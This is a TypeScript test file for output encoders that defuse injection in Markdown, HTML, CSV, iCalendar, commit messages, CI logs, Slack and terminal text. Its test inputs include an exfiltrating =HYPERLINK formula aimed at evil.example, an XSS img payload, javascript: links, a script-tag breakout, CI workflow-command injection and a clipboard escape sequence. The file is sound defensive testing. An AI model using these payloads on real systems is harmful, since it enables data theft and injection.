import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commitSubject, encodeCommitTitle } from './commit-subject.ts';
import { encodeCsvCell, encodeCsvRow } from './csv-cell.ts';
import { encodeHref, encodeHtml } from './html-text.ts';
import { encodeIcsText, foldIcsLine } from './ics-text.ts';
import { encodeJsonInHtml } from './json-in-html.ts';
import { encodeLogLine } from './log-line.ts';
import { encodeMarkdownBlock } from './markdown-block.ts';
import { encodeMarkdownInline } from './markdown-inline.ts';
import { runnerCommand } from './runner-command.ts';
import { encodeSlack } from './slack-text.ts';
import { encodeTerminal, encodeTerminalLine } from './terminal-text.ts';

const Z = '\u200B';

type Case = readonly [name: string, given: string, expected: string];

describe('Markdown in a line', () => {
  it.each<Case>([
    ['a mention reaches nobody', '@org/team ping', `@${Z}org/team ping`],
    ['pipes make no cells', 'a|b|c', 'a\\|b\\|c'],
    ['a closing keyword closes nothing', 'closes #12', `closes \\#${Z}12`],
    ['a comment is shown', '<!-- x -->', '&lt;\\!\\-\\- x \\-\\-&gt;'],
    ['an issue by its other name is no reference', 'GH-12', `GH\\-${Z}12`],
    ['an address is no link', 'https://a.example', `https${Z}\\://a\\.example`],
    ['an address without a scheme is no link', 'www.a.example', `www${Z}\\.a\\.example`],
    ['a commit id is no link', 'deadbeefdeadbeef', `deadbee${Z}fdeadbe${Z}ef`],
    ['a record id stays whole', 'INC-1000042', 'INC\\-1000042'],
    ['a backslash is doubled', 'C:\\x', 'C\\:\\\\x'],
    ['an image is shown as text', '![x](y)', '\\!\\[x\\]\\(y\\)'],
    ['line ends become blanks', 'a\r\nb\nc\u2028d', 'a b c d'],
    ['direction controls and blanks of no width go', 'a\u202Eb\u200Bc\u2066', 'abc'],
    ['a joiner between ASCII letters goes', 'ad\u200Dmin', 'admin'],
    ['a joiner where a script needs it stays', 'می\u200Cخواهم', 'می\u200Cخواهم'],
    ['marks stacked on a letter are cut', `a${'\u0301'.repeat(50)}`, `a${'\u0301'.repeat(8)}`],
    ['half a surrogate pair is replaced', 'a\uD800b', 'a\uFFFDb'],
  ])('%s', (_, given, expected) => {
    expect(encodeMarkdownInline(given)).toBe(expected);
  });

  it.each([
    [199, 199],
    [200, 200],
    [201, 200],
  ])('holds %i code points in %i', (length, expected) => {
    expect([...encodeMarkdownInline('😀'.repeat(length))].length).toBe(expected);
  });

  it('leaves no mention, reference or bare markup in any text', () => {
    const hostile = fc.array(
      fc.constantFrom('@', '#', '1', 'a', '|', '<', '`', '\\', 'http', '://', '\n', 'GH-', '\u202E'),
    );
    fc.assert(
      fc.property(hostile, (parts) => {
        const encoded = encodeMarkdownInline(parts.join(''));
        expect(encoded).not.toMatch(/@[A-Za-z0-9]|#\d|GH-\d|https?:|[<>\n\u202E]/);
        expect(encoded.replace(/\\[\\`|#:-]/g, '')).not.toMatch(/[\\`|#:-]/);
      }),
      { numRuns: 300 },
    );
  });
});

describe('Markdown as a block', () => {
  it.each<Case>([
    ['a text stands in a fence', 'a\nb', '```text\na\nb\n```'],
    ['a fence is longer than any inside', '```\n````', '`````text\n```\n````\n`````'],
    ['a mention reaches nobody', '@kim', `\`\`\`text\n@${Z}kim\n\`\`\``],
    ['a last line feed is not doubled', 'a\n', '```text\na\n```'],
  ])('%s', (_, given, expected) => {
    expect(encodeMarkdownBlock(given)).toBe(expected);
  });
});

describe('HTML', () => {
  it.each<Case>([
    ['an element is text', '<img src=x onerror=1>', '&lt;img src&#x3D;x onerror&#x3D;1&gt;'],
    ['quotes and ampersands are text', `a&"'\``, 'a&amp;&quot;&#x27;&#x60;'],
    ['controls go', 'a\u0000\u009Bb', 'ab'],
  ])('%s', (_, given, expected) => {
    expect(encodeHtml(given)).toBe(expected);
  });

  it.each([
    ['https://a.example/?x=1&y', 'https://a.example/?x&#x3D;1&amp;y'],
    ['javascript:alert(1)', undefined],
    ['java\nscript:alert(1)', undefined],
    ['https://a b', undefined],
    ['//a.example', undefined],
  ])('links to %j as %j', (given, expected) => {
    expect(encodeHref(given)).toBe(expected);
  });

  it.each<Case>([
    ['a script cannot be closed', '</script>', '"\\u003c/script\\u003e"'],
    ['line separators are escaped', '\u2028&', '"\\u2028\\u0026"'],
  ])('JSON: %s', (_, given, expected) => {
    expect(encodeJsonInHtml(given)).toBe(expected);
    expect(JSON.parse(encodeJsonInHtml(given))).toBe(given);
  });
});

describe('CSV', () => {
  it.each<readonly [string, string | number | boolean | null | undefined, string]>([
    [
      'a formula is text',
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ['a sign begins no formula', '-5% CPU', `"'-5% CPU"`],
    ['a number is raw', -5, '-5'],
    ['a boolean is raw', true, 'true'],
    ['nothing is empty', undefined, ''],
    ['a formula behind blanks is text', ' \u00A0=1', `"' \u00A0=1"`],
    ['a full-width formula is text', '＝1', `"'＝1"`],
    ['a formula behind a tab is text', '\t=1', `"' =1"`],
    ['line ends become LF', 'a\r\nb\rc', '"a\nb\nc"'],
    ['plain text is quoted', 'a', '"a"'],
  ])('%s', (_, given, expected) => {
    expect(encodeCsvCell(given)).toBe(expected);
  });

  it('ends a row with CRLF', () => {
    expect(encodeCsvRow(['a', 1, null])).toBe('"a",1,\r\n');
  });
});

describe('iCalendar', () => {
  it.each<Case>([
    ['a line end adds no property', 'x\r\nATTACH:y\r\nBEGIN:VALARM', 'x\\nATTACH:y\\nBEGIN:VALARM'],
    ['every kind of line end counts', 'a\u0085b\u2028c\u2029d\ve\ff', 'a\\nb\\nc\\nd\\ne\\nf'],
    ['separators are escaped', 'a;b,c\\d', 'a\\;b\\,c\\\\d'],
  ])('%s', (_, given, expected) => {
    expect(encodeIcsText(given)).toBe(expected);
  });

  it('folds within 75 octets between code points', () => {
    const folded = foldIcsLine(`SUMMARY:${'会'.repeat(60)}`);
    const lines = folded.split('\r\n').slice(0, -1);
    expect(lines.map((line) => Buffer.byteLength(line))).toEqual([74, 73, 43]);
    expect(lines.map((line, index) => (index === 0 ? line : line.slice(1))).join('')).toBe(
      `SUMMARY:${'会'.repeat(60)}`,
    );
  });

  it.each([
    [74, 1],
    [75, 1],
    [76, 2],
  ])('writes %i octets in %i lines', (length, expected) => {
    expect(foldIcsLine('x'.repeat(length)).match(/\r\n/g)?.length).toBe(expected);
  });
});

describe('commit subjects', () => {
  it.each<Case>([
    ['a closing keyword closes nothing', 'Fixes #12', `Fixes #${Z}12`],
    ['a closing address closes nothing', 'Fixes https://a/issues/1', `Fixes https${Z}://a/issues/1`],
    ['a mention reaches nobody', '@kim', `@${Z}kim`],
    ['no workflow is skipped', 'x [skip ci]', `x [${Z}skip ci]`],
    [
      'no workflow is skipped by its other names',
      '[ci skip][no ci][actions skip]',
      `[${Z}ci skip][${Z}no ci][${Z}actions skip]`,
    ],
    ['a trailer stays in the line', 'x\n\nCo-authored-by: y', `x  Co-authored-by: y`],
  ])('%s', (_, given, expected) => {
    expect(encodeCommitTitle(given)).toBe(expected);
  });

  it('are cut at 60 code points', () => {
    expect([...encodeCommitTitle('x'.repeat(61))].length).toBe(60);
  });

  it('name the verb and the records', () => {
    expect(commitSubject('resolve', ['INC-117'])).toBe('gitsm: resolve INC-117');
    expect(commitSubject('link', ['INC-1', 'PRB-2'], 'Mail')).toBe('gitsm: link INC-1, PRB-2 (Mail)');
  });
});

describe('log lines', () => {
  it.each<Case>([
    [
      'a command in the middle is broken',
      'Disk full ##[set-output name=n;]999',
      `"Disk full #${Z}#[set-output name=n;]999"`,
    ],
    ['a command after a line end is broken', 'x\n::error::y', `"x\\n:${Z}:error:${Z}:y"`],
    ['doubled marks leave no command', '::::', `":${Z}:${Z}:${Z}:"`],
    ['direction and control characters are shown', '\u202E\u009B', '"\\u202e\\u009b"'],
  ])('%s', (_, given, expected) => {
    expect(encodeLogLine(given)).toBe(expected);
  });

  it('hold no command whatever the text', () => {
    const hostile = fc.array(fc.constantFrom(':', '#', '[', 'error', '\n', '\r', ' ', Z));
    fc.assert(
      fc.property(hostile, (parts) => {
        expect(encodeLogLine(parts.join(''))).not.toMatch(/::|##\[|[\r\n]/);
      }),
      { numRuns: 300 },
    );
  });
});

describe('runner commands', () => {
  it('escape what ends a property or a line', () => {
    expect(runnerCommand('error', { file: 'a:b,c%d', line: 3 }, '100%\nx ##[y]')).toBe(
      `::error file=a%3Ab%2Cc%25d,line=3::100%25%0Ax #${Z}#[y]`,
    );
  });
});

describe('Slack', () => {
  it('calls nobody', () => {
    expect(encodeSlack('<!channel> & <http://x|y>')).toBe('&lt;!channel&gt; &amp; &lt;http://x|y&gt;');
  });
});

describe('the terminal', () => {
  it.each<Case>([
    ['an escape sequence is harmless', '\u001B]52;c;x\u0007\u009B31m', ']52;c;x31m'],
    ['a turned direction is shown', 'a\u202Eb', 'a<U+202E>b'],
    ['lines and tabs stay', 'a\n\tb', 'a\n\tb'],
    ['a carriage return overwrites nothing', 'good\rbad', 'good\nbad'],
  ])('%s', (_, given, expected) => {
    expect(encodeTerminal(given)).toBe(expected);
  });

  it('gets one line where one is meant', () => {
    expect(encodeTerminalLine('a\nb\tc')).toBe('a b c');
  });
});
